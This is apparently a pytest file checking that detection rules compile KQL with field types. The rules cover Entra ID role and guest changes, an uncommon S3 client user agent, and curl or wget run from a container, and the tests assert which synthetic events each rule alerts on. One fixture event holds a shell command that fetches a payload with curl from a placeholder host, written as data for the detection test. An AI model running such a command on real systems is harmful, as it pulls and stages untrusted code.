"""Public rules whose results depend on field types, on every backend.

Kibana compiles KQL with the index pattern's field types, so a wildcard field name reaches
the mapped fields it matches and a wildcard value on a keyword field is one ``wildcard``
pattern.  Without types, six Entra ID rules never alert (a literal ``*`` in a field name
matches no field) and ``*S3 Browser*`` / ``* curl*`` split into ``query_string`` terms that
match the wrong documents.  Each rule runs on the embedded store and, through the real client,
on the engine-backed stand-in (and a real cluster when one is given); both must alert exactly
the matching events.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from runner.execution.executor import Executor
from runner.kql import to_dsl
from runner.rules.loader import load_rules
from runner.rules.model import Rule
from runner.timeutil import isoformat
from tests.contract.conftest import Harness
from tests.contract.test_execution import MIN, NOW, alerted_ids

pytestmark = pytest.mark.reference

AZURE = "logs-azure.auditlogs-default"


def rule(reference: Path, name: str) -> Rule:
    (path,) = list((reference / "detection-rules" / "rules").rglob(f"{name}.toml"))
    loaded = load_rules([path])
    assert not loaded.errors, loaded.errors
    return loaded.rules[0]


def doc(index: str, doc_id: str, source: dict[str, Any], minutes_ago: int = 2) -> dict[str, Any]:
    when = isoformat(NOW - minutes_ago * MIN)
    dataset = index.split("-")[1]
    body = {"@timestamp": when, "event": {"ingested": when, **source.pop("event", {})},
            "data_stream": {"type": "logs", "dataset": dataset, "namespace": "default"},
            **source}  # fmt: skip
    return {"_index": index, "_id": doc_id, "_source": body}


def azure(doc_id: str, operation: str, targets: dict[str, Any], **extra: Any) -> dict[str, Any]:
    properties = {"target_resources": targets, **extra.pop("properties", {})}
    return doc(AZURE, doc_id, {
        "event": {"outcome": extra.pop("outcome", "success")},
        "azure": {"auditlogs": {"operation_name": operation, "properties": properties}},
    })  # fmt: skip


def run(harness: Harness, r: Rule, events: list[dict[str, Any]]) -> set[str]:
    harness.load(events)
    (record,) = Executor(backend=harness.backend).run(r, NOW)
    assert record.status == "succeeded", record.message
    return alerted_ids(harness.backend, r)


ENTRA_CASES: list[tuple[str, list[dict[str, Any]], set[str]]] = [
    ("persistence_entra_id_pim_user_added_global_admin", [
        azure("pim", "Add member to role in PIM completed (timebound)",
              {"0": {"display_name": "Global Administrator"}},
              properties={"category": "RoleManagement"}),
        azure("pim-other-role", "Add member to role in PIM completed (timebound)",
              {"0": {"display_name": "Reader"}}, properties={"category": "RoleManagement"}),
    ], {"pim"}),
    ("persistence_entra_id_global_administrator_role_assigned", [
        azure("ga", "Add member to role",
              {"0": {"modified_properties": {"1": {"new_value": '"Global Administrator"'}}}},
              properties={"category": "RoleManagement"}),
        azure("ga-reader", "Add member to role",
              {"0": {"modified_properties": {"1": {"new_value": '"Reader"'}}}},
              properties={"category": "RoleManagement"}),
    ], {"ga"}),
    ("initial_access_entra_id_user_reported_risk", [
        azure("risk", "Suspicious activity reported", {"0": {"type": "User"}},
              properties={"additional_details": {"key": "AuthenticationMethod"}}),
        azure("risk-app", "Suspicious activity reported", {"0": {"type": "Application"}},
              properties={"additional_details": {"key": "AuthenticationMethod"}}),
    ], {"risk"}),
    ("persistence_entra_id_guest_account_promoted_to_member", [
        azure("promoted", "Update user", {"0": {"modified_properties": {"0": {
            "display_name": "UserType", "old_value": '["Guest"]', "new_value": '["Member"]'}}}}),
        azure("demoted", "Update user", {"0": {"modified_properties": {"0": {
            "display_name": "UserType", "old_value": '["Member"]', "new_value": '["Guest"]'}}}}),
    ], {"promoted"}),
    ("initial_access_entra_id_external_guest_user_invite", [
        azure("invite", "Invite external user", {"0": {"display_name": "guest"}}),
        azure("invite-failed", "Invite external user", {"0": {"display_name": "guest"}},
              outcome="failure"),
    ], {"invite"}),
    ("persistence_entra_id_oauth_app_redirect_uri_modified", [
        azure("redirect", "Update application", {"1": {"modified_properties": {"0": {
            "display_name": "AppAddress"}}}}),
        azure("other-change", "Update application", {"1": {"modified_properties": {"0": {
            "display_name": "AppLogo"}}}}),
    ], {"redirect"}),
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "events", "expected"), ENTRA_CASES, ids=[c[0] for c in ENTRA_CASES]
)
def test_entra_id_rules_reach_the_fields_their_wildcard_names_match(
    harness: Harness, reference: Path, name: str, events: list[dict[str, Any]], expected: set[str]
) -> None:
    r = rule(reference, name)
    assert any("*" in k for k in str(to_dsl(r.kql)).split("'") if "target_resources" in k)
    assert run(harness, r, events) == expected


def test_s3_browser_pattern_is_one_wildcard_on_the_keyword(
    harness: Harness, reference: Path
) -> None:
    r = rule(reference, "exfiltration_s3_uncommon_client_user_agent")

    def trail(doc_id: str, agent: str, user: str) -> dict[str, Any]:
        return doc("logs-aws.cloudtrail-default", doc_id, {
            "event": {"outcome": "success"}, "user_agent": {"original": agent},
            "cloud": {"account": {"id": "111"}}, "user": {"name": user},
        })  # fmt: skip

    events = [
        trail("s3", "[S3 Browser 9.5.5 https://s3browser.com]", "alice"),
        trail("duck", "Cyberduck/8.5.0 (Mac OS X/13.0)", "bob"),
        # Untyped, `*S3 Browser*` is `*S3` OR `Browser*`: these two would alert.
        trail("browser-tool", "Browser Tool/1.0", "carol"),
        trail("ends-s3", "aws-sdk S3", "dave"),
    ]
    assert run(harness, r, events) == {"s3", "duck"}


def test_curl_pattern_with_a_leading_space_is_not_match_everything(
    harness: Harness, reference: Path
) -> None:
    r = rule(reference, "command_and_control_auditd_curl_wget_from_container")

    def execed(doc_id: str, name: str, args: list[str]) -> dict[str, Any]:
        return doc("logs-auditd_manager.auditd-default", doc_id, {
            "event": {"action": "executed"}, "host": {"os": {"type": "linux"}},
            "process": {"title": "runc init", "name": name, "args": args},
        })  # fmt: skip

    events = [
        execed("curl-in-shell", "sh", ["/bin/sh", "-c", "cd /tmp; curl http://x/payload"]),
        execed("curl", "curl", ["curl", "http://x"]),
        execed("local-curl", "curl", ["curl", "http://127.0.0.1/health"]),
        # Untyped, `* curl*` is `*` OR `curl*`: `*` would alert this one.
        execed("echo", "sh", ["/bin/sh", "-c", "echo hello"]),
    ]
    assert run(harness, r, events) == {"curl-in-shell", "curl"}
